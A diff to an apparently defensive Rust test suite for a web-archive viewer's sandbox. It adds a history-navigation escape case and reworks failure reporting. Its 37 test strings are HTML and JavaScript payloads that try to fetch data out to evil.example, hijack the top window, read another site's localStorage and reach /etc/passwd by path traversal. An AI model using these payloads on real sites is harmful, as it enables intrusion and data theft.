@@ -21,7 +21,7 @@ const fn attack(name: &'static str, page: &'static str, inside: &'static str) ->
 }
 
 /// What a clean frame gives a script: the browser's own functions, before our script changed any.
-const ATTACKS: [Attack; 36] = [
+const ATTACKS: [Attack; 37] = [
     attack("case", "<IMG SRC=HTTP://evil.example/a><iMg sRc='hTTp://evil.example/b'><IMG/SRC=//evil.example/c>", ""),
     attack("entities", "<img src='&#104;ttp://evil.example/a'><img src='http&colon;&sol;&sol;evil.example/b'><img src='\thttp://evil.example/c'>", ""),
     attack("comments", "<!--><img src=http://evil.example/a>--><!--[if IE]><img src=http://evil.example/b><![endif]--><![CDATA[<img src=http://evil.example/c>]]>", ""),
@@ -31,7 +31,7 @@ const ATTACKS: [Attack; 36] = [
     attack("javascript addresses", "<a id=a href='java&#10;script:top.location=\"http://evil.example/\"'>x</a><iframe src='javascript:parent.location=\"http://evil.example/\"'></iframe><script>a.click()</script>", "location.origin !== 'http://evil.example'"),
     attack("data documents", "<iframe src='data:text/html,<img src=http://evil.example/a><script>top.location=\"http://evil.example/\";fetch(\"http://evil.example/b\")</script>'></iframe><object data='data:text/html,<img src=http://evil.example/c>'></object>", ""),
     attack("drawings", "<svg><image href=http://evil.example/a /><use xlink:href='http://evil.example/b#x'/><script>fetch('http://evil.example/c')</script><a id=s><animate attributeName=href to=http://evil.example/d begin=0s fill=freeze /><text y=20>x</text></a></svg><iframe src=/drawing.svg></iframe>", "window.drawn === undefined"),
-    attack("srcdoc", "<iframe srcdoc='<img src=http://evil.example/a><script>top.location=\"http://evil.example/\";parent.framed=location.href;parent.parent.location=\"http://evil.example/\"</script>'></iframe>", "window.framed !== undefined"),
+    attack("srcdoc", "<iframe srcdoc='<img src=http://evil.example/a><script>top.location=\"http://evil.example/\";parent.framed=location.href;parent.parent.location=\"http://evil.example/\"</script>'></iframe>", "location.href.startsWith('http://127.0.0.1')"),
     attack("workers", "<script>const text = `try { importScripts('http://evil.example/a') } catch (e) {} fetch('http://evil.example/b').catch(() => 0); try { new WebSocket('ws://evil.example/') } catch (e) {} postMessage('tried')`;
         new Worker(URL.createObjectURL(new Blob([text]))).onmessage = () => { window.worked = 1 }; new Worker('/worker.js').onmessage = (event) => { window.told = event.data };
         try { new SharedWorker('http://evil.example/c') } catch (e) {}</script>", "new Promise((done) => { const wait = () => window.worked && window.told ? done(window.told === 'http://archived.example/worker.js') : setTimeout(wait, 10); wait(); })"),
@@ -40,7 +40,7 @@ const ATTACKS: [Attack; 36] = [
         "Promise.all([window.tried, window.more]).then((both) => both.join() === 'refused,refused')"),
     attack("the window around", "<script>for (const way of [() => top.location = 'http://evil.example/', () => window.top.location.replace('http://evil.example/'), () => (0, eval)('top').location = 'http://evil.example/', () => (0, eval)('top').document.body.remove(), () => parent.document.getElementById('ban').remove()]) { try { way() } catch (e) {} }</script>
         <a id=t target=_top href=http://evil.example/>x</a><script>(0, eval)('setTimeout(() => t.click(), 10)')</script>", "location.href.startsWith('http://127.0.0.1')"),
-    attack("windows", "<script>window.opened = [window.open('http://evil.example/'), window.open('http://evil.example/', '_top')]; try { opener.location = 'http://evil.example/' } catch (e) {}</script><iframe></iframe><script>window.clean = frames[0].open('http://evil.example/')</script>", "window.opened[0] === null && window.clean === null"),
+    attack("windows", "<script>window.opened = [window.open('http://evil.example/'), window.open('//evil.example/', 'other')]; try { opener.location = 'http://evil.example/' } catch (e) {}</script><iframe></iframe><script>window.clean = frames[0].open('http://evil.example/')</script>", "window.opened.join() === ',' && window.clean === null"),
     attack("cookies", "<script>document.cookie = 'evil=1; path=/'; window.kept = document.cookie</script>", "window.kept === 'evil=1'"),
     attack("storage of others", "<script>window.found = [localStorage.length, localStorage.getItem('secret'), localStorage.secret, Object.keys(localStorage).length]; indexedDB.databases && 0</script>", "JSON.stringify(window.found) === '[0,null,null,0]'"),
     attack("messages to the banner", "<iframe></iframe><script>const above = Object.getOwnPropertyDescriptor(frames[0], 'parent').get.call(window);
@@ -54,7 +54,8 @@ const ATTACKS: [Attack; 36] = [
     attack("sockets", "<iframe></iframe><script>const tried = (way) => { try { way() } catch (e) {} }; for (const view of [window, frames[0]]) { tried(() => new view.WebSocket('ws://evil.example/a')); tried(() => new view.EventSource('http://evil.example/b')); tried(() => view.navigator.sendBeacon('http://evil.example/c', 'x')); tried(() => new view.WebTransport('https://evil.example/d')); tried(() => view.fetch('http://evil.example/e', {mode: 'no-cors', keepalive: true}).catch(() => 0)) }</script>", "typeof RTCPeerConnection === 'undefined'"),
     attack("written markup", "<script>document.write('<img src=\"http://evil.example/a\">'); document.write('<img sr'); document.write('c=http://evil.example/b>'); document.writeln('<scr' + 'ipt src=//evil.example/c></scr' + 'ipt>')</script>", ""),
     attack("blob pages", "<script>const page = new Blob(['<img src=http://evil.example/a><script>fetch(\"http://evil.example/b\");top.location=\"http://evil.example/\"</' + 'script>'], {type: 'text/html'}); const frame = document.createElement('iframe'); frame.src = URL.createObjectURL(page); document.documentElement.append(frame)</script>", ""),
-    attack("history", "<script>try { history.pushState({}, '', 'http://evil.example/') ; window.pushed = 1 } catch (e) { window.pushed = e.name } history.pushState({}, '', '/elsewhere'); for (let i = 0; i < 50; i++) location.hash = i; history.back(); history.forward()</script>", "window.pushed === 'SecurityError' && document.URL.startsWith('http://archived.example/elsewhere')"),
+    attack("history", "<script>try { history.pushState({}, '', 'http://evil.example/') ; window.pushed = 1 } catch (e) { window.pushed = e.name } history.pushState({}, '', '/elsewhere'); for (let i = 0; i < 50; i++) location.hash = i</script>", "window.pushed === 'SecurityError' && document.URL.startsWith('http://archived.example/elsewhere')"),
+    attack("ways back", "<script>history.pushState({}, '', '/elsewhere'); history.go(-1); setTimeout(() => { history.go(1); history.go(-5); history.replaceState({}, '', '//evil.example/') }, 20)</script>", "location.href.startsWith('http://127.0.0.1')"),
     attack("climbing", "<img src=/../../../../etc/passwd><img src=../../../../../../_perennial/x><script>fetch('/..%2f..%2fetc/passwd'); fetch('/%2e%2e/web/x').then((answer) => { window.climbed = answer.status })</script>", "new Promise((done) => { const wait = () => window.climbed ? done(window.climbed >= 400) : setTimeout(wait, 10); wait(); })"),
     attack("set by scripts", "<p id=p></p><script>new Image().src = 'http://evil.example/a'; p.innerHTML = '<img src=//evil.example/b><img srcset=\"http://evil.example/c 1x\">'; p.insertAdjacentHTML('beforeend', '<img src=http://evil.example/d>'); const i = document.createElement('img'); i.setAttribute('src', 'http://evil.example/e'); const s = document.createElement('script'); s.src = 'http://evil.example/f'; document.head.append(i, s); const x = new XMLHttpRequest(); x.open('GET', 'http://evil.example/g'); x.send()</script>", ""),
     attack("a clean frame", "<iframe></iframe><script>const clean = frames[0]; clean.fetch('http://evil.example/a').catch(() => 0); new clean.Image().src = 'http://evil.example/b'; const made = clean.document.createElement('img'); clean.Element.prototype.setAttribute.call(made, 'src', 'http://evil.example/c'); document.documentElement.append(made); const frame = clean.document.createElement('iframe'); clean.Element.prototype.setAttribute.call(frame, 'src', 'http://evil.example/d'); document.documentElement.append(frame)</script>", ""),
@@ -64,7 +65,7 @@ const ATTACKS: [Attack; 36] = [
     attack("reports", "<meta http-equiv=Content-Security-Policy content=\"img-src 'none'; report-uri http://evil.example/a\"><img src=/x.png><a id=p ping=http://evil.example/b href=#x>x</a><script>p.ping = 'http://evil.example/c'; p.click()</script>", ""),
     attack("code from text", "<script>new Function('location.href = \"http://evil.example/a\"')()</script>", "location.href.startsWith('http://127.0.0.1')"),
     attack("code from text in time", "<script>setTimeout('location = \"http://evil.example/a\"', 1); [].constructor.constructor('window.location.assign(\"http://evil.example/b\")')()</script>", "location.href.startsWith('http://127.0.0.1')"),
-    attack("locked names", "<script>Object.freeze(Object.prototype); try { delete window.parent } catch (e) {} window.name = 'perennial_page'; document.title = 'x'</script><form name=location><input name=href></form><img name=__perennial>", "parent === window || typeof parent === 'object'"),
+    attack("locked names", "<script>Object.freeze(Object.prototype); try { delete window.parent } catch (e) {} window.name = 'perennial_page'; document.title = 'x'</script><form name=location><input name=href></form><img name=__perennial>", ""),
     attack("a link that is clicked", "<a id=a href=x>x</a><script>Object.getOwnPropertyDescriptor(Attr.prototype, 'value').set.call(a.attributes.href, 'http://evil.example/'); a.click()</script>", "location.href.startsWith('http://127.0.0.1')"),
     attack("a sandbox within", "<iframe sandbox='allow-scripts' srcdoc='<script>fetch(\"http://evil.example/a\").catch(() => 0); top.location = \"http://evil.example/\"</script>'></iframe><iframe sandbox='allow-scripts allow-top-navigation allow-popups' src=/sandboxed></iframe>", ""),
 ];
@@ -135,8 +136,8 @@ impl Ground {
         Ground { serving, viewer, _archive: archive }
     }
 
-    /// Looks at an archived page, and checks that nothing left it.
-    fn try_page(&mut self, name: &str, address: &str, inside: &str) {
+    /// Looks at an archived page; what of it got out.
+    fn try_page(&mut self, name: &str, address: &str, inside: &str) -> Vec<String> {
         self.viewer.visit(&format!("{}/web/20260102030405/{address}", self.serving.main));
         for _ in 0..40 {
             if self.viewer.inside("document.title") == "done" {
@@ -144,13 +145,21 @@ impl Ground {
             }
             std::thread::sleep(Duration::from_millis(10));
         }
+        let mut found = Vec::new();
+        let mut expect = |what: &str, value: String, expected: String| {
+            if value != expected {
+                found.push(format!("{name}: {what} is {value} and not {expected}"));
+            }
+        };
         if !inside.is_empty() {
-            assert_eq!(self.viewer.inside(inside), true, "{name}: {:?}", self.viewer.errors);
+            expect(inside, self.viewer.inside(inside).to_string(), "true".into());
         }
         let around = "[location.origin, document.getElementById('ban') !== null, document.querySelectorAll('#ban img, #ban script').length, \
                       document.cookie].join(' ')";
-        assert_eq!(self.viewer.outside(around), format!("{} true 0 ", self.serving.main), "{name}");
-        assert_eq!(self.viewer.escaped(), Vec::<String>::new(), "{name}");
+        let value = self.viewer.outside(around).as_str().unwrap_or_default().to_string();
+        expect("the page around", value, format!("{} true 0 ", self.serving.main));
+        expect("what left", self.viewer.escaped().concat(), String::new());
+        found
     }
 
     /// What a server of ours says to a request that is written as it is.
@@ -167,14 +176,18 @@ impl Ground {
 #[test]
 fn nothing_gets_out_of_its_frame() {
     let mut ground = Ground::new();
-    // What another archived site has stored.
-    ground.try_page("a site that stores", "http://victim.example/secret", "localStorage.getItem('secret') === 'x'");
+    // What another archived site has stored comes first.
+    let stored = ("a site that stores", "http://victim.example/secret".to_string(), "localStorage.getItem('secret') === 'x'");
+    let mut pages = vec![stored];
     for (index, attack) in ATTACKS.iter().enumerate() {
-        ground.try_page(attack.name, &format!("{HOST}/attack/{index}"), attack.inside);
+        pages.push((attack.name, format!("{HOST}/attack/{index}"), attack.inside));
     }
-    ground.try_page("a redirect", &format!("{HOST}/away"), "location.origin !== 'http://evil.example'");
-    ground.try_page("heads", &format!("{HOST}/heads"), "");
-    ground.try_page("styled XML", &format!("{HOST}/style.xml"), "window.run === undefined");
+    pages.push(("a redirect", format!("{HOST}/away"), "location.origin !== 'http://evil.example'"));
+    pages.push(("heads", format!("{HOST}/heads"), ""));
+    pages.push(("styled XML", format!("{HOST}/style.xml"), "window.run === undefined"));
+    let found: Vec<String> =
+        pages.iter().flat_map(|(name, address, inside)| ground.try_page(name, address, inside)).collect();
+    assert!(found.is_empty(), "{found:#?}");
     held_heads(&ground);
 }
 
